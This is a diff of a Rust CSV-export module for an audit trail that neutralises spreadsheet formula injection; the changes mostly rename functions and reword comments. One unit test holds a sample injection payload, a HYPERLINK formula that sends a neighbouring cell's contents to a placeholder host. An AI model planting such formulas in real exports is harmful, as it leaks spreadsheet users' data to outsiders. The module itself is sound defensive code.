@@ -1,7 +1,7 @@
 //! Rows of the trail as CSV (RFC 4180), for spreadsheets.
 //!
-//! A spreadsheet takes a cell that begins like a formula for one, and an administrator's reason is
-//! free text, so such a cell is made text. What is sealed is the export as JSON lines, not this.
+//! A spreadsheet takes a cell that begins like a formula for one, and an administrator's reason can
+//! hold anything, so such a cell is quoted. The seals are over the export as JSON lines, not this.
 
 use csv::{Terminator, WriterBuilder};
 use serde_json::{Map, Value};
@@ -41,17 +41,17 @@ pub(super) const COLUMNS: [&str; 31] = [
     "detail",
 ];
 
-/// What a formula begins with, also in the wide signs of East Asian keyboards.
+/// The characters that a formula begins with, also the full-width ones of East Asian keyboards.
 const FORMULA: [char; 11] = [
     '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
 ];
 
-/// A row of the trail, with its line end.
+/// Returns a row of the trail, with its line end.
 pub(super) fn row(line: &str) -> Vec<u8> {
     let row: Map<String, Value> = serde_json::from_str(line).unwrap_or_default();
     let cells = COLUMNS.map(|column| match row.get(column) {
         None | Some(Value::Null) => String::new(),
-        Some(Value::String(text)) => as_text(text),
+        Some(Value::String(value)) => without_formula(value),
         Some(other) => other.to_string(),
     });
     record(&cells)
@@ -66,12 +66,12 @@ pub(super) fn record<C: AsRef<[u8]>>(cells: &[C]) -> Vec<u8> {
     writer.into_inner().expect("a Vec is never full")
 }
 
-/// The text as a cell that no spreadsheet computes.
-fn as_text(text: &str) -> String {
-    if text.starts_with(FORMULA) {
-        format!("'{text}")
+/// Returns the value as a cell that no spreadsheet computes.
+fn without_formula(value: &str) -> String {
+    if value.starts_with(FORMULA) {
+        format!("'{value}")
     } else {
-        text.to_owned()
+        value.to_owned()
     }
 }
 
@@ -83,7 +83,7 @@ mod tests {
 
     use super::*;
 
-    /// The cell of a reason, as a spreadsheet reads it.
+    /// Returns the cell of a reason, as a spreadsheet reads it.
     fn cell(reason: &str) -> String {
         let line = json!({ "log": "reset_log", "seq": 7, "admin_reason": reason }).to_string();
         let row = row(&line);
@@ -107,7 +107,7 @@ mod tests {
     }
 
     #[test]
-    fn a_formula_is_shown_as_text() {
+    fn a_formula_is_shown_without_formula() {
         for formula in [
             r#"=HYPERLINK("http://x.example/?"&A1,"open")"#,
             "+1+1",
@@ -136,10 +136,10 @@ mod tests {
 
     proptest! {
         #[test]
-        fn any_text_is_one_cell_and_no_formula(text in any::<String>()) {
-            let cell = cell(&text);
+        fn any_string_is_one_cell_and_no_formula(value in any::<String>()) {
+            let cell = cell(&value);
             prop_assert!(!cell.starts_with(FORMULA));
-            prop_assert_eq!(cell.strip_prefix('\'').filter(|_| cell != text).unwrap_or(&cell), &text);
+            prop_assert_eq!(cell.strip_prefix('\'').filter(|_| cell != value).unwrap_or(&cell), &value);
         }
     }
 }
